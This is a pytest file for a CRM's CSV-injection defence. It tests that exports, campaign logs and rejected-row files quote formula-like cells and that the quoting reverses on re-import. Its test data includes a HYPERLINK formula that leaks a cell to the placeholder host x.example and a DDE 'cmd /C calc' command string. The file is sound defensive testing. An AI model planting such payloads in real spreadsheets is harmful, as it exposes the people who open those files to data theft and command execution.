"""Every CSV the product writes opens in a spreadsheet without running anything (CSV injection)."""

from __future__ import annotations

import csv
import io
import json

import pyarrow as pa
import pytest

from crm.analytics import analytic_copy
from crm.auth import CLI
from crm.campaigns.history import log_csv
from crm.campaigns.repository import get_campaign
from crm.campaigns.snapshot import take_snapshot
from crm.formats.csv_safety import neutralise, neutralise_batch, restore
from crm.ingest.csv_import import import_csv
from crm.ingest.records import validate_records
from crm.ingest.writer import write_records
from tests.campaign_support import EVERYONE, compose

FORMULA_NAME = '=HYPERLINK("http://x.example/?"&A1,"click")'
CASES = [
    (FORMULA_NAME, "'" + FORMULA_NAME),
    ("@SUM(1)", "'@SUM(1)"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("\tTab", "'\tTab"),
    ("\rReturn", "'\rReturn"),
    ("-5", "-5"),  # numbers stay numbers
    ("+91 98765 43210", "+91 98765 43210"),
    ("-1,234.50", "-1,234.50"),
    ("Asha = Ravi", "Asha = Ravi"),
    ("", ""),
]


@pytest.mark.parametrize("cell, written", CASES)
def test_text_a_spreadsheet_would_run_gets_a_quote_and_numbers_stay(cell, written):
    assert neutralise(cell) == written
    assert restore(written) == cell
    assert neutralise(-5) == -5 and neutralise(None) is None


def test_arrow_batches_follow_the_same_rule_and_leave_other_types_alone():
    cells = [cell for cell, _ in CASES]
    batch = pa.RecordBatch.from_pydict({"text": [*cells, None], "n": list(range(len(cells) + 1))})
    out = neutralise_batch(batch).to_pydict()
    assert out["text"] == [written for _, written in CASES] + [None]
    assert out["n"] == list(range(len(cells) + 1))


def hostile_customers(db):
    rows = [
        {
            "customer_id": "c000",
            "name": FORMULA_NAME,
            "city": "@SUM(1)",
            "phone": "+919800000001",
            "email": "a@example.com",
            "consent_sms": "yes",
        },
        {"customer_id": "c001", "name": "-2+3", "city": "Pune", "phone": "+919800000002", "consent_sms": "yes"},
    ]
    write_records(db, "customers", validate_records("customers", rows).valid)
    analytic_copy.close_all()


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_segment_export_neutralises_names_and_cities(cli, db, tmp_path):
    hostile_customers(db)
    rules = tmp_path / "everyone.json"
    rules.write_text(json.dumps(EVERYONE))
    out = tmp_path / "out.csv"
    cli("segment", "export", str(rules), "-o", str(out), "--columns", "customer_id,name,city,phone", check=True)
    rows = cells(out.read_text())
    assert rows[1:] == [
        ["c000", "'" + FORMULA_NAME, "'@SUM(1)", "+919800000001"],
        ["c001", "'-2+3", "Pune", "+919800000002"],
    ]


def test_the_campaign_log_csv_neutralises_messages(db):
    hostile_customers(db)
    campaign, _ = compose(db, templates=["{{ name }}"])
    take_snapshot(db, get_campaign(db, campaign.id))
    rows = cells(log_csv(db, campaign.id, by=CLI).decode())
    header = rows[0]
    messages = {row[0]: row[header.index("message")] for row in rows[1:]}
    assert messages == {"c000": "'" + FORMULA_NAME, "c001": "'-2+3"}


def test_the_rejected_rows_file_neutralises_and_imports_back_unchanged(db, tmp_path):
    source = tmp_path / "in.csv"
    source.write_text(f'customer_id,name,age\nC1,"{FORMULA_NAME.replace(chr(34), chr(34) * 2)}",old\n')
    rejected = tmp_path / "rejected.csv"
    report = import_csv(db, "customers", source, skip_invalid=True, rejected_path=rejected, by=CLI)
    assert report.inserted == 0
    rows = cells(rejected.read_text())
    assert rows[1][:3] == ["C1", "'" + FORMULA_NAME, "old"]
    fixed = tmp_path / "fixed.csv"
    fixed.write_text(rejected.read_text().replace(",old,", ",40,"))
    import_csv(db, "customers", fixed, mapping={"customer_id": "customer_id", "name": "name", "age": "age"}, by=CLI)
    assert db.customers.find_one({"customer_id": "C1"})["name"] == FORMULA_NAME
